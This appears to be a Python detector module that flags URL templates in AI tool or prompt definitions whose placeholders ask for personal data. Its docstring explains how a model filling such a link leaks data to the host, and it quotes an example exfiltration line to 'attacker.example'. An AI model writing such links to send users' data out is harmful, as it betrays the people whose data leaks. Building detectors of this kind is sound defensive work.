"""A URL template whose placeholders name someone's personal data: the model fills it and the host
receives it.

`https://img.example.net/{customer_name}/thumb.jpg`, `…/f?dob={date_of_birth}&ph={phone}`, `?cpf={cpf}`:
no sentence orders a sending, yet a link or an image the model writes with those slots filled sends
a customer's name, birth date or tax number to whoever runs the host as soon as it is rendered or
fetched. What a slot names is read by its words (lexicon.PERSONAL, a person's name), in the languages
the lexicon reads; a secret or the chat in a slot is the other rules' (and the way attack write-ups
show a leak: `![x](https://attacker.example/log?q={secret})`). A tool's own endpoint takes its
own arguments (`/users/{user_id}`, `?phone={phone}` on a tool with a `phone` parameter): a slot
named after an argument of the item is what the call is made of, and an id names no one.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Mapping
from typing import Any

from driftwatch.detect.lexicon import PERSONAL
from driftwatch.detect.rule import Hit
from driftwatch.normalize import spell_joints

TEMPLATE = re.compile(r"https?://[\w.-]{1,253}(?:[^\s{}<>\"'`)\]]{1,200}|\{[^{}\n]{1,80}\}){0,24}")
"""A URL with what follows its host, a placeholder in braces counting as one piece whatever it
holds (`{first 200 characters of the case notes}` has spaces). Bounded pieces: linear in the text."""
QUERY_SLOT = re.compile(r"[?&][\w-]{1,30}=\{\{?[^{}\n]{1,80}\}\}?")
"""A query's field filled by a placeholder (`?cpf={cpf}`), in a text that names its host apart (`the
album's link carries ?cpf={cpf} at https://…`)."""
_SLOT = re.compile(r"\{\{?([^{}\n]{1,80})\}\}?")
_PERSON_NAME = re.compile(
    r"\b(?:customer|client|user|patient|visitor|guest|member|person|full|first|last|kunden?|patient(?:en)?"
    r"|cliente|paciente|utente|usuario|usuário|utilisateur|клиент\w*|пациент\w*)[ _]?(?:name|nome|nombre"
    r"|nom|vorname|nachname|имя|фио)\b|\A(?:name|nome|nombre|nom|имя|фио)\Z|(?:姓名|氏名|名前|이름)"
)
"""A person's name as a slot names it (`customer_name`, `user_name`, a slot that is `{name}` alone; not
`{repo_name}` or `{file_name}`, which name a thing)."""
_HANDLE = re.compile(r"(?:\b| )(?:id|ids|uuid|key|code|token|state|slug|hash|sha\d*|ref)\Z")
"""A slot that ends in an id names a record, not the person's data (`{patient_id}`, `{user_id}`)."""
_SHORTEST = len("http://a.b/{x}")


def _slot_data(slot: str) -> str | None:
    """What personal data the words of a placeholder name, or None (`{document_id}`, `{lat}`)."""
    words = spell_joints(slot.strip()).replace("_", " ").casefold()
    if _HANDLE.search(words) is not None:
        return None
    found = PERSONAL.search(words) or _PERSON_NAME.search(words)
    return None if found is None else found.group()


def template_hit(text: str, arguments: Collection[str]) -> Hit | None:
    """`exfiltration-destination` when a URL in `text` has a slot naming personal data that is not
    one of the item's own `arguments` (casefolded names)."""
    if len(text) < _SHORTEST or "://" not in text or "{" not in text:
        return None
    urls = [*TEMPLATE.finditer(text), *QUERY_SLOT.finditer(text)]
    for url in urls:
        for slot in _SLOT.finditer(url.group()):
            name = slot.group(1).strip().casefold()
            if name in arguments or (data := _slot_data(name)) is None:
                continue
            detail = f"a URL's placeholder asks for personal data ({data}) to be sent to its host"
            return Hit.of("exfiltration-destination", detail, url.group())
    return None


def arguments_of(body: Mapping[str, Any]) -> frozenset[str]:
    """The casefolded names of an item's own arguments: its input schema's properties, a prompt's."""
    names: list[str] = []
    schema = body.get("inputSchema")
    if isinstance(schema, Mapping) and isinstance(properties := schema.get("properties"), Mapping):
        names += [str(key) for key in properties]
    if isinstance(listed := body.get("arguments"), list):
        names += [str(a.get("name")) for a in listed if isinstance(a, Mapping)]
    return frozenset(name.casefold() for name in names)
